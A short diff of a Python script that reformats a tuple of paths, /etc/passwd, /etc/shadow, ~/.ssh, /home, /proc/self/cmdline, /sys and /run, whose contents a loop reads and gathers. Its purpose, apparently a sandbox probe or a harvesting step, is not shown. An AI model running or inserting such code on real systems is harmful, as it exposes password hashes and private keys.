@@ -4,7 +4,15 @@ import glob
 import os
 
 found = []
-for path in ("/etc/passwd", "/etc/shadow", os.path.expanduser("~/.ssh"), "/home", "/proc/self/cmdline", "/sys", "/run"):
+for path in (
+    "/etc/passwd",
+    "/etc/shadow",
+    os.path.expanduser("~/.ssh"),
+    "/home",
+    "/proc/self/cmdline",
+    "/sys",
+    "/run",
+):
     try:
         found += os.listdir(path) if os.path.isdir(path) else [open(path).read()]
     except OSError:
